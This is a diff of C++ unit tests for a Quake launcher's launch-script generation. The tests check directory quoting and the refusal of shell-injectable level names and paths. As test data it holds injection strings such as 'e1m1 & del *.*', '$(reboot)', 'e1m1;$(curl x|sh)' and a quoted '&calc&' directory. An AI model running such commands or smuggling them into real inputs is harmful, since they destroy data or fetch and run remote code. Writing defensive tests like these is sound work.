@@ -15,8 +15,16 @@ LaunchChoices Choices(std::string engine, std::string mapSelection, std::string 
           std::move(quakeDir)};
 }
 
+// The message that refuses a launch; empty when the launch may go ahead.
+std::string Refusal(const LaunchChoices& choices, ScriptFlavour flavour) {
+  return CheckLaunch(choices, flavour).reason();
+}
+
+// Why a level name may not reach the launch script; empty when it may.
+std::string LevelProblem(const std::string& level) { return CheckLevelName(level).reason(); }
+
 TEST(EngineCommandLine, FollowsTheFixedOrderByteForByte) {
-  // The documented example.
+  // A GL engine with a map: the level, the modification, then the GL settings.
   EXPECT_EQ(EngineCommandLine(Choices("GLQuake.exe", "castle", "e1m1", "")),
             "GLQuake.exe +map e1m1 -game kv +r_shadows 0 +r_mirroralpha 1");
   // No map and no GL suffix: the line ends with the space after the custom parameters.
@@ -39,28 +47,64 @@ TEST(EngineCommandLine, FollowsTheFixedOrderByteForByte) {
 TEST(LaunchScript, WindowsIsThreeLinesWithCrLf) {
   EXPECT_EQ(WindowsLaunchScript(Choices("GLQuake.exe", "castle", "e1m1", "")),
             "C:\r\ncd\\Quake\r\nGLQuake.exe +map e1m1 -game kv +r_shadows 0 +r_mirroralpha 1\r\n");
-  // A bare drive leaves "cd" alone on its line.
-  EXPECT_EQ(WindowsLaunchScript(Choices("WinQuake.exe", "", "", "+skill 2", "D:")),
-            "D:\r\ncd\r\nWinQuake.exe -game kv +skill 2 \r\n");
   EXPECT_EQ(LaunchScriptName(ScriptFlavour::Windows), std::string("run.bat"));
   EXPECT_EQ(LaunchScriptName(ScriptFlavour::Linux), std::string("run.sh"));
 }
 
+TEST(LaunchScript, WindowsEntersEveryDirectoryAsWritten) {
+  const struct {
+    std::string dir;
+    std::string driveAndCdLines;
+  } cases[] = {
+      // Nothing the interpreter acts on: "cd" and the rest of the directory, unquoted.
+      {"C:\\Quake", "C:\r\ncd\\Quake"},
+      {"D:", "D:\r\ncd"},
+      {"E:\\Games\\My Quake!", "E:\r\ncd\\Games\\My Quake!"},
+      {"C:/Quake", "C:\r\ncd/Quake"},
+      // The directory quoted, each % doubled.
+      {"D:\\Quake & Mods", "D:\r\ncd \"D:\\Quake & Mods\""},
+      {"D:\\Quake & 100% Mods (x86)", "D:\r\ncd \"D:\\Quake & 100%% Mods (x86)\""},
+      {"C:\\%PATH%", "C:\r\ncd \"C:\\%%PATH%%\""},
+      {"C:\\a^b", "C:\r\ncd \"C:\\a^b\""},
+      {"C:\\Program Files (x86)\\Quake", "C:\r\ncd \"C:\\Program Files (x86)\\Quake\""},
+      {"C:\\x)", "C:\r\ncd \"C:\\x)\""},
+      {"C:\\a|b<c>d", "C:\r\ncd \"C:\\a|b<c>d\""},
+  };
+  for (const auto& c : cases) {
+    const LaunchChoices choices = Choices("Quake.exe", "", "", "+skill 1 & echo hi", c.dir);
+    EXPECT_TRUE(CheckLaunch(choices, ScriptFlavour::Windows).ok()) << c.dir;
+    // The custom parameters stay the player's own words.
+    EXPECT_EQ(WindowsLaunchScript(choices),
+              c.driveAndCdLines + "\r\nQuake.exe -game kv +skill 1 & echo hi \r\n")
+        << c.dir;
+  }
+}
+
 TEST(LaunchScript, LinuxQuotesTheDirectoryAndRunsALocalEngineFromIt) {
-  const std::string cdLine =
-      "cd -- '/home/p/My Quake/it'\\''s $HOME `x` \"q\"' || { printf '%s\\n' 'Kovar Launcher "
-      "could not enter the Quake directory:' '/home/p/My Quake/it'\\''s $HOME `x` \"q\"' 'Set it "
-      "with \"Set Quake Directory\" in the Tools menu.' >&2; [ -t 0 ] && sleep 15; exit 1; }\n";
+  const std::string dir = "'/home/p/My Quake/it'\\''s $HOME `x` \"q\"'";
+  const std::string cdLine = "cd -- " + dir +
+                             " || { printf '%s\\n' 'Kovar Launcher could not enter the Quake "
+                             "directory:' " +
+                             dir +
+                             " 'Set it with \"Set Quake Directory\" in the Tools menu.' >&2; "
+                             "[ -t 0 ] && { echo 'Press Enter to close.' >&2; read -r _; }; exit "
+                             "1; }\n";
+  const std::string statusLine =
+      "status=$?; if [ $status -ne 0 ] && [ -t 0 ]; then why=; if [ $status -gt 128 ]; then "
+      "why=\": it crashed with signal $((status - 128))\"; elif [ $status -eq 126 ] || [ $status "
+      "-eq 127 ]; then why=': it could not be found or started'; fi; echo \"Kovar Launcher: the "
+      "engine ended with status $status$why. Press Enter to close.\" >&2; read -r _; fi; exit "
+      "$status\n";
   const LaunchChoices choices =
       Choices("LucidGL.exe", "castle", "e1m1", "+skill 2", "/home/p/My Quake/it's $HOME `x` \"q\"");
   EXPECT_EQ(LinuxLaunchScript(choices, true),
             "#!/bin/sh\n" + cdLine +
-                "./LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 +r_mirroralpha 1\n");
+                "./LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 +r_mirroralpha 1\n" +
+                statusLine);
   // An engine not found in the Quake directory stands as typed, for the shell to look up.
-  EXPECT_EQ(LinuxLaunchScript(Choices("quake -nosound", "", "", "", "/q"), false),
-            "#!/bin/sh\ncd -- '/q' || { printf '%s\\n' 'Kovar Launcher could not enter the Quake "
-            "directory:' '/q' 'Set it with \"Set Quake Directory\" in the Tools menu.' >&2; "
-            "[ -t 0 ] && sleep 15; exit 1; }\nquake -nosound -game kv \n");
+  const std::string script = LinuxLaunchScript(Choices("quake -nosound", "", "", "", "/q"), false);
+  EXPECT_EQ(script.substr(script.find('\n', script.find('\n') + 1) + 1),
+            "quake -nosound -game kv \n" + statusLine);
 
   EXPECT_TRUE(IsBareFileName("LucidGL.exe"));
   EXPECT_FALSE(IsBareFileName("bin/quake"));
@@ -69,15 +113,15 @@ TEST(LaunchScript, LinuxQuotesTheDirectoryAndRunsALocalEngineFromIt) {
   EXPECT_FALSE(IsBareFileName(".."));
 }
 
-TEST(LevelName, AcceptsPlainNamesWithTrailingSpaces) {
+TEST(CheckLevelName, AcceptsPlainNamesWithTrailingSpaces) {
   for (const std::string& level :
        std::vector<std::string>{"", "e1m1", "E1M1", "start", "kv_castle-2.b", "maps/e1m1",
                                 "e1m1   ", std::string(64, 'a'), std::string(64, 'a') + "  "}) {
-    EXPECT_EQ(LevelNameProblem(level), "") << level;
+    EXPECT_EQ(LevelProblem(level), "") << level;
   }
 }
 
-TEST(LevelName, RefusesAnythingAShellCouldReadAsMore) {
+TEST(CheckLevelName, RefusesAnythingAShellCouldReadAsMore) {
   const struct {
     std::string level;
     std::string why;
@@ -103,13 +147,13 @@ TEST(LevelName, RefusesAnythingAShellCouldReadAsMore) {
       {"   ", "it consists of spaces only"},
       {std::string(65, 'a'), "it is longer than 64 characters"},
   };
-  for (const auto& c : cases) EXPECT_EQ(LevelNameProblem(c.level), c.why) << c.level;
+  for (const auto& c : cases) EXPECT_EQ(LevelProblem(c.level), c.why) << c.level;
 }
 
-TEST(LaunchRefusal, QuakeDirectoryMustBeSet) {
+TEST(CheckLaunch, QuakeDirectoryMustBeSet) {
   for (ScriptFlavour flavour : {ScriptFlavour::Windows, ScriptFlavour::Linux}) {
     for (const char* dir : {"", "C"}) {
-      const std::string refusal = LaunchRefusal(Choices("LucidGL.exe", "", "", "", dir), flavour);
+      const std::string refusal = Refusal(Choices("LucidGL.exe", "", "", "", dir), flavour);
       EXPECT_NE(refusal.find("Set it first with \"Set Quake Directory\" in the Tools menu."),
                 std::string::npos)
           << refusal;
@@ -118,49 +162,84 @@ TEST(LaunchRefusal, QuakeDirectoryMustBeSet) {
   // On Windows the first line would otherwise run whatever its first two characters name.
   for (const char* dir : {"Quake", "\\\\server\\quake", "1:\\Quake", "&:\\x"}) {
     const std::string refusal =
-        LaunchRefusal(Choices("LucidGL.exe", "", "", "", dir), ScriptFlavour::Windows);
+        Refusal(Choices("LucidGL.exe", "", "", "", dir), ScriptFlavour::Windows);
     EXPECT_NE(refusal.find("drive letter"), std::string::npos) << dir;
     EXPECT_NE(refusal.find(dir), std::string::npos) << dir;
   }
-  EXPECT_EQ(LaunchRefusal(Choices("Quake.exe", "", "", "", "D:"), ScriptFlavour::Windows), "");
-  EXPECT_EQ(LaunchRefusal(Choices("Quake.exe", "", "", "", "quake"), ScriptFlavour::Linux), "");
+  EXPECT_EQ(Refusal(Choices("Quake.exe", "", "", "", "D:"), ScriptFlavour::Windows), "");
+  EXPECT_EQ(Refusal(Choices("Quake.exe", "", "", "", "quake"), ScriptFlavour::Linux), "");
 }
 
-TEST(LaunchRefusal, NoValueMayAddALine) {
+TEST(CheckLaunch, WindowsDirectoryMustBeAFullPathWithoutQuotes) {
+  const struct {
+    std::string dir;
+    std::string refusal;
+  } cases[] = {
+      {"C:Quake",
+       "The game was not started: the Quake directory \"C:Quake\" is relative to the current "
+       "directory of drive C:. Set a full path such as C:\\Quake with \"Set Quake Directory\" in "
+       "the Tools menu."},
+      {"d:Games\\Quake & Mods",
+       "The game was not started: the Quake directory \"d:Games\\Quake & Mods\" is relative to "
+       "the current directory of drive d:. Set a full path such as d:\\Games\\Quake & Mods with "
+       "\"Set Quake Directory\" in the Tools menu."},
+      {"C:\\a\"&calc&\"",
+       "The game was not started: the Quake directory \"C:\\a\"&calc&\"\" holds the character "
+       "'\"', which no Windows directory name holds. Set it first with \"Set Quake Directory\" in "
+       "the Tools menu."},
+  };
+  for (const auto& c : cases) {
+    const LaunchChoices choices = Choices("Quake.exe", "", "", "", c.dir);
+    EXPECT_EQ(CheckLaunch(choices, ScriptFlavour::Windows).reason(), c.refusal);
+    // Elsewhere these are ordinary relative or quoted names.
+    EXPECT_TRUE(CheckLaunch(choices, ScriptFlavour::Linux).ok()) << c.dir;
+  }
+}
+
+TEST(CheckLaunch, AnEngineMustBeChosen) {
+  for (ScriptFlavour flavour : {ScriptFlavour::Windows, ScriptFlavour::Linux}) {
+    for (const char* engine : {"", " ", " \t "}) {
+      EXPECT_EQ(CheckLaunch(Choices(engine, "", "", "+skill 2", "C:\\Quake"), flavour).reason(),
+                "The game was not started: no engine is chosen. Choose one in the engine box, "
+                "such as LucidGL.exe.");
+    }
+  }
+}
+
+TEST(CheckLaunch, NoValueMayAddALine) {
   for (const std::string& bad : std::vector<std::string>{"a\rb", "a\nb", std::string("a\0b", 3)}) {
     LaunchChoices engine = Choices(bad, "", "", "");
     LaunchChoices params = Choices("Quake.exe", "", "", "+skill 1" + bad);
     LaunchChoices dir = Choices("Quake.exe", "", "", "", "C:\\Quake" + bad);
-    EXPECT_NE(LaunchRefusal(engine, ScriptFlavour::Windows).find("the engine text holds a line"),
+    EXPECT_NE(Refusal(engine, ScriptFlavour::Windows).find("the engine text holds a line"),
               std::string::npos);
-    EXPECT_NE(LaunchRefusal(params, ScriptFlavour::Linux).find("the custom parameters text"),
+    EXPECT_NE(Refusal(params, ScriptFlavour::Linux).find("the custom parameters text"),
               std::string::npos);
-    EXPECT_NE(LaunchRefusal(dir, ScriptFlavour::Windows).find("the Quake directory text"),
+    EXPECT_NE(Refusal(dir, ScriptFlavour::Windows).find("the Quake directory text"),
               std::string::npos);
   }
 }
 
-TEST(LaunchRefusal, NamesTheMapOfABadOrFailedLevel) {
+TEST(CheckLaunch, NamesTheMapOfABadOrFailedLevel) {
   LaunchChoices bad = Choices("Quake.exe", "castle", "e1m1 & del *.*", "");
-  EXPECT_EQ(LaunchRefusal(bad, ScriptFlavour::Windows),
+  EXPECT_EQ(Refusal(bad, ScriptFlavour::Windows),
             "The game was not started: the map \"castle\" has the level name \"e1m1 & del *.*\", "
             "which is not a plain level name: it holds a space. Only level names of letters, "
             "digits and _ - . / are passed to the game.");
   // Control bytes and overlong names are not put into the message as they are.
   bad.mapLevel = "e1m1\x1b[2J" + std::string(200, 'x');
-  const std::string refusal = LaunchRefusal(bad, ScriptFlavour::Linux);
+  const std::string refusal = Refusal(bad, ScriptFlavour::Linux);
   EXPECT_EQ(refusal.find('\x1b'), std::string::npos);
   EXPECT_LT(refusal.size(), 300u);
 
   LaunchChoices failed = Choices("Quake.exe", "ruins", "", "");
   failed.mapLoadFailed = true;
-  EXPECT_NE(
-      LaunchRefusal(failed, ScriptFlavour::Linux).find("the map \"ruins\" could not be loaded"),
-      std::string::npos);
+  EXPECT_NE(Refusal(failed, ScriptFlavour::Linux).find("the map \"ruins\" could not be loaded"),
+            std::string::npos);
   // Without a selected map neither the level nor an old failure matters.
   failed.mapSelection.clear();
   failed.mapLevel = "$(reboot)";
-  EXPECT_EQ(LaunchRefusal(failed, ScriptFlavour::Linux), "");
+  EXPECT_EQ(Refusal(failed, ScriptFlavour::Linux), "");
 }
 
 // StartGame over a temporary application directory: the native flavour only.
@@ -172,11 +251,19 @@ struct StartGameTest : ::testing::Test {
   }
   std::string ScriptPath() const { return f.dir.File(LaunchScriptName(kNativeFlavour)); }
   std::string Script() const { return f.dir.Read(LaunchScriptName(kNativeFlavour)); }
-  // The native script's directory lines followed by the command line `line`.
-  std::string ExpectedScript(const std::string& line) const {
-    if (kNativeFlavour == ScriptFlavour::Windows) return "C:\r\ncd\\Quake\r\n" + line + "\r\n";
-    const std::string script = LinuxLaunchScript(Choices("x", "", "", "", quakeDir), false);
-    return script.substr(0, script.find('\n', script.find('\n') + 1) + 1) + line + "\n";
+  // The command line the written script runs: its third line in both flavours, after the drive
+  // and cd lines or after the shebang and cd lines.
+  std::string CommandLine() const {
+    const std::string script = Script();
+    const std::string end = kNativeFlavour == ScriptFlavour::Windows ? "\r\n" : "\n";
+    std::size_t start = 0;
+    for (int line = 0; line < 2 && start != std::string::npos; ++line) {
+      start = script.find(end, start);
+      if (start != std::string::npos) start += end.size();
+    }
+    const std::size_t stop = start == std::string::npos ? start : script.find(end, start);
+    if (stop == std::string::npos) return "(the script has no third line)";
+    return script.substr(start, stop - start);
   }
 
 #ifdef _WIN32
@@ -188,13 +275,12 @@ struct StartGameTest : ::testing::Test {
 };
 
 TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
-  f.launcher.RunCommand("map castle");
-  f.launcher.RunCommand("cpar +skill 2");
-  EXPECT_FALSE(f.launcher.StartGame());
+  f.Run("map castle");
+  f.Run("cpar +skill 2");
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(f.platform.started, std::vector<std::string>{ScriptPath()});
   EXPECT_TRUE(f.platform.errors.empty());
-  EXPECT_EQ(Script(), ExpectedScript("LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 "
-                                     "+r_mirroralpha 1"));
+  EXPECT_EQ(CommandLine(), "LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 +r_mirroralpha 1");
 #ifndef _WIN32
   EXPECT_NE(
       std::filesystem::status(ScriptPath()).permissions() & std::filesystem::perms::owner_exec,
@@ -203,19 +289,19 @@ TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
   // Every launch writes the script anew and starts another game.
   f.state.SetText(TextField::EngineText, "WinQuake.exe");
   f.state.SetText(TextField::MapSelection, "");
-  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(f.platform.started.size(), 2u);
-  EXPECT_EQ(Script(), ExpectedScript("WinQuake.exe -game kv +skill 2 "));
+  EXPECT_EQ(CommandLine(), "WinQuake.exe -game kv +skill 2 ");
   // No temporary file is left behind.
   EXPECT_EQ(std::distance(std::filesystem::directory_iterator(f.dir.Path()), {}), 2);
 }
 
 TEST_F(StartGameTest, TypingAnotherMapNameKeepsTheLoadedLevel) {
-  f.launcher.RunCommand("map castle");
+  f.Run("map castle");
   f.state.SetText(TextField::MapSelection, "somewhere else");
   f.state.SetText(TextField::EngineText, "Quake.exe");
-  EXPECT_FALSE(f.launcher.StartGame());
-  EXPECT_EQ(Script(), ExpectedScript("Quake.exe +map e1m1 -game kv "));
+  EXPECT_TRUE(f.launcher.StartGame().ok());
+  EXPECT_EQ(CommandLine(), "Quake.exe +map e1m1 -game kv ");
 }
 
 TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
@@ -223,23 +309,28 @@ TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
   f.dir.Write("data/evil.kvx", "e1m1;$(curl x|sh)\r\nLooks harmless.\r\n");
   f.dir.Write("data/broken.kvx", "only one line\r\n");
 
-  f.launcher.RunCommand("map evil");
+  f.Run("map evil");
   f.platform.errors.clear();
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   ASSERT_EQ(f.platform.errors.size(), 1u);
   EXPECT_NE(f.platform.errors[0].find("the map \"evil\""), std::string::npos);
 
-  f.launcher.RunCommand("map broken");
+  f.Run("map broken");
   f.platform.errors.clear();
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   ASSERT_EQ(f.platform.errors.size(), 1u);
   EXPECT_NE(f.platform.errors[0].find("the map \"broken\" could not be loaded"), std::string::npos);
 
-  f.launcher.RunCommand("map castle");
+  f.Run("map castle");
   f.state.SetText(TextField::QuakeDir, "");
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   EXPECT_NE(f.platform.errors.back().find("\"Set Quake Directory\" in the Tools menu"),
             std::string::npos);
+
+  f.state.SetText(TextField::QuakeDir, quakeDir);
+  f.Run("exe ");
+  EXPECT_TRUE(f.launcher.StartGame().failed());
+  EXPECT_NE(f.platform.errors.back().find("no engine is chosen"), std::string::npos);
 
   EXPECT_TRUE(f.platform.started.empty());
   EXPECT_EQ(Script(), "old script");
@@ -251,7 +342,7 @@ TEST_F(StartGameTest, WriteAndStartFailuresAreShownWithTheReason) {
   FakePlatform platform;
   Launcher launcher(f.dir.File("file"), platform);
   launcher.State().SetText(TextField::QuakeDir, quakeDir);
-  EXPECT_TRUE(launcher.StartGame());
+  EXPECT_TRUE(launcher.StartGame().failed());
   ASSERT_EQ(platform.errors.size(), 1u);
   EXPECT_EQ(
       platform.errors[0].rfind("Could not write the launch script \"" + f.dir.File("file"), 0), 0u)
@@ -260,7 +351,7 @@ TEST_F(StartGameTest, WriteAndStartFailuresAreShownWithTheReason) {
   EXPECT_TRUE(platform.started.empty());
 
   f.platform.startAnswer = "no shell here";
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   EXPECT_EQ(f.platform.errors, std::vector<std::string>{"Could not start the launch script \"" +
                                                         ScriptPath() + "\": no shell here."});
 }
@@ -270,13 +361,13 @@ TEST_F(StartGameTest, LinuxRunsAnEngineFoundInTheQuakeDirectoryFromThere) {
   TempDir quake;
   quake.Write("LucidGL.exe", "");
   f.state.SetText(TextField::QuakeDir, quake.Path());
-  EXPECT_FALSE(f.launcher.StartGame());
-  EXPECT_EQ(Script(), LinuxLaunchScript(Choices("LucidGL.exe", "", "", "", quake.Path()), true));
+  EXPECT_TRUE(f.launcher.StartGame().ok());
+  EXPECT_EQ(CommandLine(), "./LucidGL.exe -game kv +r_shadows 0 +r_mirroralpha 1");
   // A directory of the engine's name is not an engine.
   f.state.SetText(TextField::EngineText, "kv");
   quake.Write("kv/pak0.pak", "");
-  EXPECT_FALSE(f.launcher.StartGame());
-  EXPECT_EQ(Script(), LinuxLaunchScript(Choices("kv", "", "", "", quake.Path()), false));
+  EXPECT_TRUE(f.launcher.StartGame().ok());
+  EXPECT_EQ(CommandLine(), "kv -game kv ");
 }
 #endif
 
